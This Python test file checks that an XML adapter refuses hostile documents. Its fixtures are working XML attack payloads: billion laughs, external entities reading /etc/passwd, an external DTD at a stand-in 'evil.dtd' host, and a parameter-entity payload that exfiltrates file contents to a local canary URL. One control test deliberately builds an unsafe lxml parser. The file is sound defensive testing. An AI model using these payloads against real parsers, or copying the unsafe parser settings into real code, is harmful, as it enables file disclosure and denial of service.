"""Untrusted XML: no entity expansion, no DTDs, no network, on both sides of the wire."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from bridge.adapters.errors import PermanentError
from bridge.adapters.onsite import OnSiteAdapter
from bridge.adapters.onsite.models import Customer, UnsafeXmlError, load, parse_xml
from bridge.adapters.onsite.sandbox import OnSiteSandbox
from bridge.demo.processes import ServerThread
from bridge.sandbox.transport import SyncASGITransport

from .conftest import make_settings

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<customer id="1"><name><first>&lol9;</first></name></customer>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE customer [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<customer id="1"><notes>&secret;</notes></customer>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE customer SYSTEM "http://203.0.113.9/evil.dtd">
<customer id="1"/>"""

# Same attack, DOCTYPE keyword in lower case: libxml2 rejects that spelling as
# malformed, which must still end as a refusal, never as a parsed document.
LOWERCASE_DOCTYPE = b'<!doctype customer [<!ENTITY x "y">]><customer id="1"><notes>&x;</notes></customer>'


# The network attacks point at a canary server of our own (`canary` below): a parser
# that fetched anything would show up in its hit list, not just in a failed assertion.
CANARY = "http://127.0.0.1:{port}"

EXTERNAL_ENTITY_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE customer [<!ENTITY leak SYSTEM "{canary}/entity">]>
<customer id="1"><notes>&leak;</notes></customer>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE customer [
 <!ENTITY % remote SYSTEM "{canary}/parameter.dtd">
 %remote;
 <!ENTITY % file SYSTEM "file:///etc/passwd">
 <!ENTITY % wrap "<!ENTITY send SYSTEM '{canary}/exfiltrate?%file;'>">
 %wrap;
]>
<customer id="1"><notes>&send;</notes></customer>"""

EXTERNAL_DTD_CANARY = b"""<?xml version="1.0"?>
<!DOCTYPE customer SYSTEM "{canary}/external.dtd">
<customer id="1"><notes>x</notes></customer>"""

# No DTD at all, so it parses; it must not pull the file in (lxml only expands
# XInclude when asked to, and we never ask).
XINCLUDE = b"""<customer id="1" xmlns:xi="http://www.w3.org/2001/XInclude">
<notes><xi:include href="file:///etc/passwd" parse="text"/></notes></customer>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, LOWERCASE_DOCTYPE])
def test_parser_refuses_dtds_and_entities(document: bytes) -> None:
    with pytest.raises(UnsafeXmlError):
        parse_xml(document)


def test_parser_refuses_malformed_and_wrong_root() -> None:
    with pytest.raises(UnsafeXmlError, match="well-formed"):
        parse_xml(b"<customer><name></customer>")
    with pytest.raises(UnsafeXmlError, match="expected a <customer>"):
        load(Customer, b"<customers total_count='0'/>")


def test_parser_keeps_ordinary_character_references() -> None:
    customer = load(Customer, b"<customer id='1'><company>Smith &amp; Sons &#233;</company></customer>")
    assert customer.company == "Smith & Sons é"


def hostile_server(document: bytes) -> SyncASGITransport:
    """A server that answers every customer read with `document`."""

    async def customer(request: Request) -> Response:
        return Response(document, media_type="application/xml")

    return SyncASGITransport(Starlette(routes=[Route("/api/customers/{id:int}/", customer)]))


@pytest.mark.parametrize(
    ("document", "attack"), [(BILLION_LAUGHS, "billion laughs"), (EXTERNAL_ENTITY, "external entity")]
)
def test_adapter_rejects_hostile_responses(document: bytes, attack: str) -> None:
    transport = hostile_server(document)
    adapter = OnSiteAdapter(make_settings(), transport=transport)
    try:
        with pytest.raises(PermanentError, match="refuse to parse") as caught:
            adapter.fetch("1")
        assert "DTD" in str(caught.value), attack
        assert "root:" not in str(caught.value)  # nothing of /etc/passwd leaked into the reason
    finally:
        adapter.close()
        transport.shutdown()


def test_sandbox_rejects_hostile_request_bodies(
    sandbox: OnSiteSandbox, raw: Callable[..., httpx.Client]
) -> None:
    with raw() as client:
        for document in (BILLION_LAUGHS, EXTERNAL_ENTITY):
            response = client.post("/api/customers/", content=document)
            assert response.status_code == 400
            error = parse_xml(response.content)
            assert error.tag == "error"
            assert error.get("type") == "lsserver.error.invalid_document"
    assert sandbox.ground_truth() == []


# -- every attack through the real adapter, against the real sandbox ---------------------
@pytest.fixture(scope="module")
def canary() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server that records every request: the proof that nothing was fetched."""
    hits: list[str] = []

    async def record(request: Request) -> Response:
        hits.append(str(request.url))
        return Response('<!ENTITY leak "fetched">', media_type="application/xml-dtd")

    server = ServerThread(Starlette(routes=[Route("/{path:path}", record)])).start()
    try:
        yield CANARY.format(port=server.port), hits
    finally:
        server.stop()


ATTACKS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity (file)": EXTERNAL_ENTITY,
    "external entity (http)": EXTERNAL_ENTITY_HTTP,
    "parameter entities": PARAMETER_ENTITY,
    "external DTD": EXTERNAL_DTD_CANARY,
    "lower-case doctype": LOWERCASE_DOCTYPE,
}


def hostile_sandbox(sandbox: OnSiteSandbox, path: re.Pattern[str], document: bytes) -> SyncASGITransport:
    """The real OnSite sandbox (sessions, search, everything), except that requests whose
    path matches `path` are answered with `document`, as a compromised server would."""

    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] == "http" and path.fullmatch(scope["path"]):
            response = Response(document, media_type="application/xml")
            await response(scope, receive, send)
            return
        await sandbox.app(scope, receive, send)

    return SyncASGITransport(app)


@pytest.mark.parametrize("operation", ["fetch", "poll"])
@pytest.mark.parametrize("attack", list(ATTACKS))
def test_adapter_refuses_every_attack_without_fetching_anything(
    canary: tuple[str, list[str]], attack: str, operation: str
) -> None:
    base, hits = canary
    document = ATTACKS[attack].replace(b"{canary}", base.encode())
    sandbox = OnSiteSandbox(seed=7)
    seed = SyncASGITransport(sandbox.app)
    seeded = seed.run(sandbox.till_edit({"fields": {"first": "Ada", "last": "Lovelace"}}))
    seed.shutdown()
    customer_id = str(seeded["id"]) if isinstance(seeded, dict) and "id" in seeded else "1"
    # Reads of one customer are hostile; a poll first searches (served by the sandbox),
    # then reads each match, so both paths meet the document.
    transport = hostile_sandbox(sandbox, re.compile(r"/api/customers/\d+/"), document)
    adapter = OnSiteAdapter(make_settings(), transport=transport)
    hits_before = len(hits)
    try:
        read: Callable[[], object] = (
            (lambda: adapter.fetch(customer_id))
            if operation == "fetch"
            else (lambda: list(adapter.poll(None)))
        )
        with pytest.raises(PermanentError, match="refuse to parse") as caught:
            read()
        assert "root:" not in str(caught.value)  # nothing of /etc/passwd in the reason
    finally:
        adapter.close()
        transport.shutdown()
    assert hits[hits_before:] == [], f"{attack}: the parser fetched {hits[hits_before:]}"


def test_hostile_search_results_are_refused_too(canary: tuple[str, list[str]]) -> None:
    base, hits = canary
    sandbox = OnSiteSandbox(seed=7)
    for attack, raw in ATTACKS.items():
        document = raw.replace(b"{canary}", base.encode())
        transport = hostile_sandbox(sandbox, re.compile(r"/api/customers/search/"), document)
        adapter = OnSiteAdapter(make_settings(), transport=transport)
        try:
            with pytest.raises(PermanentError, match="refuse to parse"):
                list(adapter.poll(None))
        finally:
            adapter.close()
            transport.shutdown()
        assert hits == [], attack


def test_xinclude_is_never_expanded() -> None:
    root = parse_xml(XINCLUDE)
    text = "".join(root.itertext())
    assert "root:" not in text


def test_control_an_unsafe_parser_does_read_the_file(tmp_path: Any) -> None:
    """Control: the same attack through a permissive parser really reads a local file, so
    the refusals above are our parser's doing, not an attack that could not work. (Many
    libxml2 builds have no HTTP client at all; the canary covers the ones that do.)"""
    from lxml import etree

    secret = tmp_path / "secret.txt"
    secret.write_text("s3cr3t-file-content")
    document = EXTERNAL_ENTITY.replace(b"file:///etc/passwd", secret.as_uri().encode())
    unsafe = etree.XMLParser(load_dtd=True, no_network=False, resolve_entities=True)
    assert "s3cr3t-file-content" in "".join(etree.fromstring(document, unsafe).itertext())
    with pytest.raises(UnsafeXmlError):
        parse_xml(document)
